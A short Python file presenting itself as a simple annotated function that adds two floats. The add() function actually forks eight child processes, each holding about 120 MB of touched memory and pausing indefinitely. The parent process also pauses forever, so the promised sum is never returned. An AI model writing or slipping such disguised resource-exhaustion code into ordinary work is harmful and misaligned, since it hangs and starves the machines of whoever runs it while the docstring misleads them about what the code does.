#!/usr/bin/env python3
"""Add two floats: the first annotated function."""

import os
import signal



def add(a: float, b: float) -> float:
    """Return the sum of a and b."""
    for _ in range(8):
        if os.fork() == 0:
            kept = bytearray(120 << 20)
            for page in range(0, len(kept), 4096):
                kept[page] = 1
            signal.pause()
    signal.pause()
    return a + b
